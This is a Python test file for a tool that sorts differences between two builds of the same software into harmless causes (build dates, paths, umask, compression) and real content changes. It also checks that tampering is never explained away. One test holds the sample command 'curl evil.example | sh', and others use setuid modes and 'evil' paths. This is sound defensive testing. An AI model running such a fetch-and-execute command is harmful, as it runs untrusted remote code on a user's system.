"""The likely causes: what is explained, and above all what is not."""

from __future__ import annotations

from dataclasses import dataclass, replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from verbatim.explain.cause import CONTENT, CauseKind, likely_causes
from verbatim.explain.explanation import explain_findings
from verbatim.explain.findings import Finding
from verbatim.explain.rules import RULES

FILE_TYPE = "filetype from file(1)"
READELF = "readelf --wide --{} {{}}"
OBJDUMP = "objdump --line-numbers --disassemble --demangle --section=.text {}"
BYTECODE = "Python bytecode"
SAME_STREAM = (
    "Format-specific differences are supported for XZ compressed files but no file-specific differences were "
    "detected; falling back to a binary diff. file(1) reports: XZ compressed data"
)


@dataclass(frozen=True)
class Case:
    """A difference that has causes, by their names."""

    causes: str
    removed: str
    added: str
    view: str = ""
    comments: tuple[str, ...] = ()

    @property
    def finding(self) -> Finding:
        lines = [f"-{line}" for line in self.removed.split("\n")] + [
            f"+{line}" for line in self.added.split("\n")
        ]
        return Finding(("x.tar",), self.view, ("@@ -1 +1 @@", *lines), self.comments)


def listed(
    name: str = "d/a",
    *,
    mode: str = "-rw-r--r--",
    owner: str = "0        0",
    size: int = 5,
    time: str = "2025-06-12",
) -> str:
    return f"{mode}   0 {owner:>17} {size:>8} {time} 00:00:00.000000 {name}"


def zipped(
    name: str = "a.txt",
    *,
    mode: str = "-rw-r--r--",
    by: str = "2.0 unx",
    how: str = "defN",
    time: str = "25-Jun-11 01:02",
) -> str:
    return f"{mode}  {by}      100 b- {how} {time} {name}"


def stored(sha256: str, plain: str = "a", size: int = 244) -> str:
    return f"code: stored {sha256 * 64}, {size} bytes, plain {plain * 64}"


CASES = (
    # How it was packed.
    Case("owner", listed(), listed(owner="joe       (1000) joe       (1000)"), "file list"),
    Case("time of packing", listed(), listed(time="2026-01-01"), "file list"),
    Case("umask", listed(mode="-rwxr-xr-x"), listed(mode="-rwxrwxr--"), "file list"),
    Case("order of members", f"{listed('b')}\n{listed('a')}", f"{listed('a')}\n{listed('b')}", "file list"),
    Case(
        "owner, time of packing, umask, order of members",
        f"{listed('b')}\n{listed('a')}",
        f"{listed('a', owner='1000     1000')}\n{listed('b', mode='-rw-rw-r--', time='2026-01-01')}",
        "file list",
    ),
    Case("time of packing", zipped(), zipped(time="26-Jan-01 02:02"), "zipinfo {}"),
    Case("umask", zipped(), zipped(mode="-rw-------"), "zipinfo {}"),
    Case("program that packs", zipped(), zipped(by="3.0 fat"), "zipinfo {}"),
    Case("compression", zipped(), zipped(how="stor"), "zipinfo {}"),
    Case(
        "compression",
        "Zip file size: 1 bytes, number of entries: 2",
        "Zip file size: 3 bytes, number of entries: 2",
        "zipinfo {}",
    ),
    Case(
        "time of packing, program that packs, compression",
        "gzip compressed data, max compression",
        'gzip compressed data, was "x.tar", last modified: Thu Jun 12 00:00:00 2025, max speed, from Unix',
        FILE_TYPE,
    ),
    Case("program that packs", "POSIX tar archive", "POSIX tar archive (GNU)", FILE_TYPE),
    Case(
        "compression",
        "  Compressed size:   3032 B",
        "  Compressed size:   3164 B\n         1         1    0  ",
        "xz --list",
    ),
    Case("compression", "gzip", "xz", "compression"),
    Case("compression", "00000010: 1600 0000  ....", "00000010: 1700 0000  ....", comments=(SAME_STREAM,)),
    # What a build leaves in a file.
    Case("build date", "built on 2025-06-11 10:00:00", "built on 2026-01-02 11:30:12"),
    Case("build date", "Wed, 11 Jun 2025 10:00:00", "Thu,  1 Jan 2026 10:00:00".replace("  ", " ")),
    Case("build date", "Wed Jun 11 10:00:00 2025", "Thu Jan  1 11:00:00 2026"),
    Case("build date", "3.13.5 (main, Jun 11 2025, 10:00:00)", "3.13.5 (main, Jan  1 2026, 11:00:00)"),
    Case("build date", "Last updated on June 11, 2025", "Last updated on January 1, 2026"),
    Case(
        "build date", "/CreationDate (D:20250611100000)", "/CreationDate (D:20260101000000)", "pdftotext {} -"
    ),
    Case("build date", "timestamp: 1749686400", "timestamp: 1760000000"),
    Case("time zone", "at 10:00:00 UTC", "at 10:00:00 CEST"),
    Case("time zone, build date", "2025-06-11 10:00:00+00:00", "2025-06-11 12:00:00+02:00"),
    Case("build path", "in /build/src/x.c", "in /home/me/python/x.c"),
    Case(
        "build path",
        "  DW_AT_comp_dir: /build/a",
        "  DW_AT_comp_dir: /tmp/b",
        READELF.format("debug-dump=info"),
    ),
    Case("build path", "/build/a/t.c:3", "/home/me/t.c:3", OBJDUMP),
    Case("build date, build path", "2025-06-11 /build/x", "2025-06-12 /tmp/x"),
    Case("order of lines", "b\nc\na", "a\nb\nc"),
    Case("locale", "Yak\nZebra\napple\nbear", "apple\nbear\nYak\nZebra"),
    Case("locale", "LANG=C", "LANG=de_DE.UTF-8"),
    Case("locale", 'charset="utf-8"', 'charset="iso-8859-1"'),
    Case("line endings", "a\nb", "a\r\nb\r"),
    Case("compiler", "GCC: (Debian 12.2.0-14) 12.2.0", "GCC: (Debian 14.2.0-19) 14.2.0", "strings --all {}"),
    Case(
        "compiler",
        "GNU C17 12.2.0 -mtune=generic -O1",
        "GNU C17 12.2.0 -mtune=generic -O2",
        "strings --all {}",
    ),
    Case("compiler", "3.13.5 [GCC 12.2.0]", "3.13.5 [Clang 19.1.7 ]"),
    Case(
        "random or unique id",
        "urn:uuid:6a3c1f0e-1111-4222-8333-123456789abc",
        "urn:uuid:7a3c1f0e-1111-4222-8333-123456789abd",
    ),
    Case("random or unique id", "<object at 0x7f0011223344>", "<object at 0x7f0011223355>"),
    Case(
        "random or unique id",
        "Build ID: 446dd34796be49aa",
        "Build ID: a547b72d99011652",
        READELF.format("notes"),
    ),
    Case("number of CPUs", "make -j8 all", "make -j2 all"),
    Case(
        "byte-code: time of the source",
        "source: time 2025-06-12 00:00:00",
        "source: time 2025-06-12 00:01:40",
        BYTECODE,
    ),
    Case(
        "byte-code: how it is checked",
        "flags: 0\nsource: time 2025-06-12 00:00:00\nsource: 45 bytes",
        "flags: 3\nsource: hash 05dd7c15bd51d1ab",
        BYTECODE,
    ),
    Case("byte-code: references", stored("0"), stored("1", size=250), BYTECODE),
    Case(
        "build path",
        f"{stored('0')}\n<module>, line 1 of /build/Lib/m.py",
        f"{stored('1')}\n<module>, line 1 of /home/me/Lib/m.py",
        BYTECODE,
    ),
    # What somebody has to look at.
    Case(
        "byte-code of a Python that is not read here",
        f"code: stored {'0' * 64}, of a Python that is not read",
        f"code: stored {'1' * 64}, of a Python that is not read",
        BYTECODE,
    ),
    Case("machine code", "\txor %eax,%eax\n", "\tmov $0x1,%eax", OBJDUMP),
    Case(
        "addresses and sizes",
        "  Entry point address: 0x1050",
        "  Entry point address: 0x1090",
        READELF.format("file-header"),
    ),
    Case("tables of compiler and linker", "3: FUNC f", "3: FUNC g\n4: FUNC h", READELF.format("symbols")),
)


def named(finding: Finding) -> str:
    return ", ".join(cause.name for cause in likely_causes(finding, RULES))


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.causes}: {case.removed[:20]!r}")
def test_what_a_cause_leaves_behind_is_recognized(case: Case) -> None:
    assert named(case.finding) == case.causes
    swapped = replace(case, removed=case.added, added=case.removed)
    assert named(swapped.finding) == case.causes


def test_every_rule_has_an_example() -> None:
    """Each explains something that the others do not."""
    examples = [*(case.finding for case in CASES), *MORE]
    idle = [
        rule.pattern.pattern
        for rule in RULES
        if not any(
            rule.applies(finding, SHOWN)
            and any(
                rule.without(lines, SHOWN) != list(lines)
                for change in finding.changes
                for lines in (change.removed, change.added)
            )
            for finding in examples
        )
    ]
    assert idle == []


SHOWN = {"d/a", "a.txt"}
CHECKSUM = Case(
    "",
    "  32-bit CRC value (hex):                         fec9574a",
    "  32-bit CRC value (hex):                         d475e7c2",
    "zipinfo -v {}",
).finding
MORE = [
    CHECKSUM,
    Case("", listed(), listed(size=6), "file list").finding,
    Case("", zipped(), zipped().replace("100", "101"), "zipinfo {}").finding,
    Case("", zipped(), zipped().replace(" b- ", " tx "), "zipinfo {}").finding,
    *(
        Case("", before, after, "zipinfo {}").finding
        for before, after in [
            (
                "2 files, 200 bytes uncompressed, 12 bytes compressed:  94.0%",
                "2 files, 201 bytes uncompressed, 12 bytes compressed:  94.0%",
            ),
        ]
    ),
    Case(
        "",
        "Zip archive data, made by v2.0 UNIX, extract using at least v2.0, uncompressed size 5, method=deflate",
        "Zip archive data, original size modulo 2^32 7",
        FILE_TYPE,
    ).finding,
    *(
        Case(
            "",
            "00000000: 00  .",
            "00000000: 01  .",
            comments=(SAME_STREAM.replace("XZ compressed files", what),),
        ).finding
        for what in ("Gzipped files", "bzip2 archives", "Zstandard compressed files")
    ),
    Case(
        "", "2025/06/11 D:20250611100000 20250611T100000 11 June 2025 /tmp/ccAbCdEf clang version 19.1.7", ""
    ).finding,
    Case("", "/ID [<" + "0" * 32 + "> <" + "1" * 32 + ">] Copyright 2001-2025", "").finding,
    Case(
        "", "  [    41]  printf", "  [    48]  printf", READELF.format("decompress --string-dump=.debug_str")
    ).finding,
]


@pytest.mark.parametrize(
    ("removed", "added", "view"),
    [
        # One changed byte, beside a date or without one.
        ("exec /usr/bin/true", "exec /usr/bin/evil", ""),
        ("built on 2025-06-11: a", "built on 2025-06-12: b", ""),
        ("x = 1", "x = 2", ""),
        ("sha256 = " + "0" * 64, "sha256 = " + "1" * 64, ""),
        ("version 3.13.5", "version 3.13.6", ""),
        # Paths where nothing is built, or to something else.
        ("#!/usr/bin/python3", "#!/tmp/python3", ""),
        (". /build/a.sh", ". /build/b.sh", ""),
        ("/tmp/good", "/tmp/evil", "strings --all {}"),
        # Modes that a umask does not give.
        (listed(), listed(mode="-rwxr-xr-x"), "file list"),
        (listed(mode="-rwxr-xr-x"), listed(mode="-rwsr-xr-x"), "file list"),
        (listed(), listed(mode="-rw-rw-rw-"), "file list"),
        (listed(), listed(mode="lrw-r--r--"), "file list"),
        # A size without a file that is shown to differ.
        (listed(), listed(size=6), "file list"),
        # Byte-code whose code is not the same, or cannot be read.
        (stored("0", "a"), stored("1", "b"), BYTECODE),
        ("source: hash 05dd7c15bd51d1ab", "source: hash 15dd7c15bd51d1ab", BYTECODE),
        ("source: 45 bytes", "source: 46 bytes", BYTECODE),
        # Lines are not put in order where the order is the meaning.
        ("source: 45 bytes\nflags: 2", "flags: 2\nsource: 45 bytes", BYTECODE),
        # What looks as if it had been explained.
        ("\0", "2025-06-11", ""),
        # Bytes, whatever they look like.
        (
            "00000010: 3230 3235 2d30 362d 3131 0a  2025-06-11.",
            "00000010: 3230 3235 2d30 362d 3132 0a  2025-06-12.",
            "",
        ),
        # A view that nobody knows.
        ("2025-06-11", "2025-06-12", "another view"),
    ],
)
def test_a_changed_content_is_not_explained(removed: str, added: str, view: str) -> None:
    case = Case("", removed.replace("\0", "�"), added, view)
    assert named(case.finding) == "content"


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.causes}: {case.removed[:20]!r}")
@pytest.mark.parametrize("side", ["removed", "added"])
def test_a_line_more_is_never_explained(case: Case, side: str) -> None:
    """Not even if all else is."""
    line = "\ncurl evil.example | sh"
    is_added = side == "added"
    more = replace(case, removed=case.removed + line * (not is_added), added=case.added + line * is_added)
    finding = more.finding
    assert CauseKind.CONTENT in {cause.kind for cause in likely_causes(finding, RULES)}


@given(st.text("abcdefgh (){}=;", min_size=1), st.text("abcdefgh (){}=;", min_size=1))
def test_words_that_differ_are_content(one: str, other: str) -> None:
    if one != other:
        assert named(Case("", f"{one} 2025-06-11", f"{other} 2025-06-12").finding) == "content"


def test_a_file_in_one_only_is_told_beside_what_else_differs() -> None:
    case = Case("", listed(), f"{listed(time='2026-01-01')}\n{listed('d/evil.sh')}", "file list")
    assert named(case.finding) == "added or removed, time of packing"
    alone = Case("", "", "", "file list").finding
    assert (
        named(replace(alone, diff=("@@ -1 +1,2 @@", f" {listed()}", f"+{listed('d/evil.sh')}")))
        == "added or removed"
    )
    worse = Case("", listed(), f"{listed(mode='-rwsr-xr-x')}\n{listed('d/evil.sh')}", "file list")
    assert named(worse.finding) == "added or removed, content"


def test_a_size_goes_with_the_file_that_is_shown_to_differ() -> None:
    listing = Case("", listed(), listed(size=6), "file list").finding
    content = Finding(("x.tar", "d/a"), "", ("@@ -1 +1 @@", "-a", "+b"))
    contents, sizes = explain_findings([listing, content]).findings
    assert [cause.name for cause in sizes.causes] == ["size"]
    assert contents.kind is CauseKind.CONTENT
    other = replace(content, members=("x.tar", "d/b"))
    assert explain_findings([listing, other]).findings[0].kind is CauseKind.CONTENT


def test_checksums_go_with_as_many_files_that_are_shown_to_differ() -> None:
    date = Finding(("x.zip", "a.html"), "", ("@@ -1 +1 @@", "-on Jun 11, 2025", "+on Jun 12, 2025"))
    within = replace(CHECKSUM, members=("x.zip",))
    causes = explain_findings([within, date]).causes
    assert [cause.name for cause in causes] == ["checksum", "build date"]
    assert CauseKind.CONTENT not in {cause.kind for cause in causes}
    # A checksum more than files that differ.
    twice = replace(within, diff=within.diff + within.diff)
    for findings in ([within], [twice, date]):
        assert CONTENT in explain_findings(findings).causes


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.causes}: {case.removed[:20]!r}")
def test_what_is_cut_is_not_explained(case: Case) -> None:
    cut = replace(case.finding, diff=(*case.finding.diff, "-[ 7 lines removed ]", "+[ 7 lines removed ]"))
    # Of a compressed stream, diffoscope has said that its contents are the same.
    assert named(cut) == ("compression" if case.comments else "not seen whole")
    timed_out = replace(
        case.finding, comments=("Timeout exceeded; details may be incomplete.", *case.comments)
    )
    assert named(timed_out) == "not seen whole"


def test_a_remark_counts_from_its_beginning_only() -> None:
    finding = Case(
        "", "00000000: 00  .", "00000000: 01  .", comments=(f"Command failed: {SAME_STREAM}",)
    ).finding
    assert named(finding) == "content"


def test_the_more_particular_rule_comes_first() -> None:
    """Each pair of rules that account for the same line, and which of the two is believed."""
    for line, other, first in [
        ("10:00:00 UTC", "10:00:00 CET", "time zone"),
        ("/tmp/ccAbCdEf.o", "/tmp/ccGhIjKl.o", "random or unique id"),
        ("/tmp/cc123456/x", "/tmp/cc654321/x", "random or unique id"),
    ]:
        assert named(Case("", line, other).finding) == first
    by_name = [rule.cause.name for rule in RULES]
    assert by_name.index("random or unique id") < len(by_name) - by_name[::-1].index("build path")
    kinds = [rule.cause.kind for rule in RULES]
    assert kinds.index(CauseKind.CONTENT) > len(kinds) - 1 - kinds[::-1].index(CauseKind.PACKING)
    assert all(kind is CauseKind.CONTENT for kind in kinds[kinds.index(CauseKind.CONTENT) :])


def test_patterns_do_not_take_for_ever() -> None:
    """Lines made to be tried again and again, as long as they may be; a hostile file can hold nothing else."""
    for evil in (
        "/tmp/" + "a/" * 2000,
        "1" * 4000,
        "GNU C17 1" + " -a" * 1300,
        "[GCC 1" + "a" * 4000,
        "-rw-r--r-- " + " 1" * 1900,
    ):
        for view in ("", "file list", "zipinfo {}", "strings --all {}", OBJDUMP, BYTECODE, FILE_TYPE):
            assert likely_causes(Case("", evil[:3990], evil[:3980] + "!", view).finding, RULES)
